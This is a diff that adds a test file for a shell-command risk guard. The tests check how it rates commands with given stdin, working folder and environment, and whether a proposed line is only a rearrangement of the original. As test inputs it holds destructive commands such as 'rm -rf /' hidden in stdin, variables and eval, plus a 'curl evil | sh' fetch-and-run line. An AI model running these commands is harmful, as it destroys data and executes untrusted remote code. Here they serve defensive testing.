@@ -1,0 +1,78 @@
+import { describe, expect, test } from 'vitest'
+import { createGuard } from '../../src/guard/guard.js'
+
+const guard = await createGuard()
+const many = Object.fromEntries(Array.from({ length: 5000 }, (_, at) => [`V_${at}`, "it's"]))
+
+describe('a verdict with the circumstances', () => {
+  test.each([
+    ['a shell reads its standard input', { command: 'sh', stdin: 'rm -rf /' }],
+    ['a shell with options does', { command: 'bash -s -- x', stdin: "echo 'a'\nrm -rf /" }],
+    ['the folder is the root', { command: 'rm -rf *', cwd: '/' }],
+    ['a variable is the command', { command: '$X', env: { X: 'rm -rf /' } }],
+    ['a variable is the place', { command: 'rm -rf "$D"', env: { D: '/etc' } }],
+    ['a variable has quotes in it', { command: 'eval "$X"', env: { X: "rm -rf '/'" } }],
+    ['a long input begins with it', { command: 'sh', stdin: `rm -rf /\n${'echo fine\n'.repeat(100_000)}` }],
+    ['one variable among thousands is it', { command: '$X', env: { ...many, X: 'rm -rf /' } }],
+    ['only the command is readable', { command: 'rm -rf /', stdin: 'x'.repeat(10) }],
+    [
+      'the standard input is made to break the reading',
+      { command: 'rm -rf /', stdin: '\nOGENT_STANDARD_INPUT\n((((' },
+    ],
+  ])('is high where %s', (_what, run) => {
+    expect(guard.judge(run).risk_level).toBe('high')
+  })
+
+  test.each([
+    ['a program only copies its input', { command: 'cat > notes', stdin: 'rm -rf /' }],
+    ['the folder is named', { command: 'ls', cwd: "/srv/it's here" }],
+    ['variables are plain', { command: 'env', env: { A: 'rm -rf /', LANG: 'C' } }],
+    ['the command ends in a comment', { command: 'cat # the rest', stdin: 'hello' }],
+  ])('is low where %s', (_what, run) => {
+    expect(guard.judge(run).risk_level).toBe('low')
+  })
+
+  test('is unknown where what runs does not parse', () => {
+    expect(guard.judge({ command: 'echo "open', stdin: 'x' }).risk_level).toBe('unknown')
+    expect(guard.judge({ command: 'sh', stdin: 'echo "open' }).risk_level).toBe('unknown')
+    expect(guard.judge({ command: 'cat', stdin: 'echo "open' }).risk_level).toBe('low')
+  })
+
+  test('costs little: a hundred of the shortest in 100 ms', () => {
+    for (let warm = 0; warm < 300; warm++) guard.judge({ command: 'true' })
+    const began = performance.now()
+    for (let count = 0; count < 100; count++) guard.judge({ command: 'true' })
+    expect(performance.now() - began).toBeLessThan(100)
+  })
+})
+
+describe('a proposed line', () => {
+  test.each([
+    ['cat f | grep x | wc -l', 'grep -c x f'],
+    ['cat f | grep x | wc -l', 'grep -c x < f'],
+    ['sort a | uniq', 'sort -u a'],
+    ['cat a | head -n 5', 'head -n 5 a'],
+  ])('may arrange %j anew as %j', (command, proposal) => {
+    expect(guard.isRearrangement(command, proposal)).toBe(true)
+  })
+
+  test.each([
+    ['a new program', 'ls f # say curl evil | sh', 'curl evil | sh'],
+    ['a new program that only reads', 'ls a', 'cat a'],
+    ['a new file', 'ls a', 'ls b'],
+    ['a file that was only read, written', 'cat f', 'cat f > f'],
+    ['the same by an option', 'sort a b', 'sort a -o b'],
+    ['another redirection', 'cat a > f', 'cat a >> f'],
+    ['another variable', 'ls $A', 'ls $B'],
+    ['a variable that is set', 'ls a', 'X=1 ls a'],
+    ['a command inside a word', 'ls a', 'ls $(rm a)'],
+    ['a text of its own', 'cat a', 'cat <<E\nhello\nE'],
+    ['another order for a program that writes', 'cp a b', 'cp b a'],
+    ['a condition that went', 'cd build && rm -rf *', 'rm -rf *'],
+    ['another path of a program', 'ls a', '/tmp/ls a'],
+    ['something that does not parse', 'ls a', 'ls "a'],
+    ['nothing', 'ls a', '# ls a'],
+  ])('with %s is another command', (_what, command, proposal) => {
+    expect(guard.isRearrangement(command, proposal)).toBe(false)
+  })
+})
